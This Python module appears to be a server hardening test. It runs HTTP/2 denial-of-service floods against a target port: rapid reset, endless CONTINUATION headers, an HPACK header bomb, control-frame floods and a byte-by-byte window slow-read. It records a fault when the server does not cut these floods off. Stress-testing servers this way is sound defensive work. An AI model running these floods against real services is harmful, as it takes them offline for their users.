"""Floods on the HTTP port over HTTP/2 (CVE-2019-9511 to 9518, CVE-2023-44487, CVE-2024-27316)."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Callable, Iterator
from contextlib import AsyncExitStack
from itertools import count, repeat

from attack import MIB, ONE_PORT, STREAM_MIB, Attack, Bounds, Target
from talk import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RESET,
    SAY_HELLO,
    SETTINGS,
    WINDOW,
    Stranger,
    call,
    frame,
    frames,
    literal,
    message,
    stranger,
)

SECONDS, QUICK_SECONDS = 6.0, 2.0
AT_ONCE = 100
"""Frames that are written together."""

GRPC = call(b"/greeter_service.v1.Greeter/SayHello")
JSON = call(SAY_HELLO.encode(), b"application/json")
Flood = Callable[[], Iterator[bytes]]


def rapid_reset() -> Iterator[bytes]:
    """Calls that are given up as soon as they are begun."""
    cancel = (8).to_bytes(4, "big")
    for stream in count(1, 2):
        flags = END_HEADERS | (END_STREAM if stream % 4 == 1 else 0)
        yield frame(HEADERS, flags, stream, GRPC) + frame(RESET, 0, stream, cancel)


def malformed() -> Iterator[bytes]:
    """Requests that are reset by the server, each for being none."""
    return (frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x83") for stream in count(1, 2))


def continuations(part: bytes) -> Iterator[bytes]:
    """A head that never ends."""
    yield frame(HEADERS, END_STREAM, 1, JSON)
    yield from repeat(frame(CONTINUATION, 0, 1, part))


def empty_data() -> Iterator[bytes]:
    """A body of nothing."""
    yield frame(HEADERS, END_HEADERS, 1, JSON)
    yield from repeat(frame(DATA, 0, 1, b""))


def header_bomb() -> Iterator[bytes]:
    """Heads of a few bytes, which are 60 KB when they are decoded."""
    entry = literal(b"x", b"y" * 3_900, indexed=True)
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, GRPC + entry)
    for stream in count(3, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, GRPC + b"\xbe" * 14)


ONE = (1).to_bytes(4, "big")
RESETS: list[Flood] = [rapid_reset, rapid_reset, rapid_reset, malformed]
HEADS: list[Flood] = [
    lambda: continuations(b""),
    lambda: continuations(literal(b"x", b"y" * 1_000)),
    header_bomb,
]
NOTHINGS: list[Flood] = [
    lambda: repeat(frame(SETTINGS, 0, 0, b"\0\4" + ONE)),
    lambda: repeat(frame(PING, 0, 0, b"pingpong")),
    lambda: (frame(PRIORITY, 0, stream, bytes(5)) for stream in count(1, 2)),
    lambda: repeat(frame(WINDOW, 0, 0, ONE)),
    empty_data,
]


async def resets(target: Target) -> str:
    """Begins requests and gives them up, or has them given up."""
    return await _flood(target, RESETS, "calls given up at once")


async def heads(target: Target) -> str:
    """Sends heads without end, and such as are large when they are decoded."""
    return await _flood(target, HEADS, "endless and bloated heads")


async def nothings(target: Target) -> str:
    """Sends frames that ask for nothing."""
    return await _flood(target, NOTHINGS, "SETTINGS, PING, PRIORITY, ...")


async def _flood(target: Target, floods: list[Flood], what: str) -> str:
    end = time.monotonic() + (QUICK_SECONDS if target.quick else SECONDS)
    told = await asyncio.gather(*(_send(target.http_port, flood, end) for flood in floods))
    sent, connections = (sum(figures) for figures in zip(*told, strict=True))
    if connections <= len(floods):
        target.faults.append("no flood was ended")
    return f"{sent / MIB:.0f} MiB of {what}, {connections} times"


async def _send(port: int, flood: Flood, end: float) -> tuple[int, int]:
    """Sends as fast as it can, and connects anew when the server has had enough.

    Returns:
        How many bytes were sent, and over how many connections.
    """
    sent = connections = 0
    while time.monotonic() < end:
        try:
            async with stranger(port) as client, asyncio.TaskGroup() as group:
                connections += 1
                reading = group.create_task(client.ended(2 * SECONDS))
                await client.send(PREFACE + frame(SETTINGS, 0, 0, b""))
                several = flood()
                while time.monotonic() < end and not reading.done():
                    data = b"".join(next(several) for _ in range(AT_ONCE))
                    if not await client.send(data):
                        break
                    sent += len(data)
                    await asyncio.sleep(0)  # Sending waits for nothing while there is room.
                reading.cancel()
        except OSError:
            continue
    return sent, connections


CONNECTIONS = 50
STREAMS = 100
NAME_BYTES = 5_000
READ_TIMEOUT_SECONDS = 2


async def windows(target: Target) -> str:
    """Takes answers byte by byte, on as many streams as there may be; wants them to be ended."""
    async with AsyncExitStack() as stack:
        clients = [
            await stack.enter_async_context(stranger(target.http_port)) for _ in range(CONNECTIONS)
        ]
        ended = await asyncio.gather(*(_sip(client) for client in clients))
    held = CONNECTIONS * STREAMS - sum(ended)
    if held:
        target.faults.append(f"{held} of {CONNECTIONS * STREAMS} streams are held still")
    return f"{CONNECTIONS} times {STREAMS} answers, taken byte by byte"


async def _sip(client: Stranger) -> int:
    """Returns how many streams, or all with their connection, the server has ended."""
    body = message(name="a" * NAME_BYTES)
    streams = range(1, 2 * STREAMS, 2)
    await client.send(PREFACE + frame(SETTINGS, 0, 0, b"\0\4" + ONE))
    for stream in streams:
        head = frame(HEADERS, END_HEADERS, stream, JSON)
        await client.send(head + frame(DATA, END_STREAM, stream, body))
    left = set(streams)

    async def open_windows() -> None:
        while left:
            await asyncio.sleep(0.2)
            await client.send(b"".join(frame(WINDOW, 0, stream, ONE) for stream in left))

    opening = asyncio.create_task(open_windows())
    try:
        async with asyncio.timeout(5 * READ_TIMEOUT_SECONDS):
            async for kind, stream in frames(client.reader):
                if kind == RESET:
                    left.discard(stream)
                if not left:
                    break
            else:
                left.clear()
    except TimeoutError:
        pass
    finally:
        opening.cancel()
    return STREAMS - len(left)


ATTACKS = [
    Attack("a rapid reset", resets, settings=ONE_PORT),
    Attack("heads without end over HTTP/2", heads, settings=ONE_PORT),
    Attack("frames that ask for nothing", nothings, settings=ONE_PORT),
    Attack(
        "windows opened byte by byte",
        windows,
        Bounds(mib=CONNECTIONS * STREAMS * (STREAM_MIB + NAME_BYTES / MIB)),
        {**ONE_PORT, "READ_TIMEOUT_SECONDS": READ_TIMEOUT_SECONDS},
    ),
]
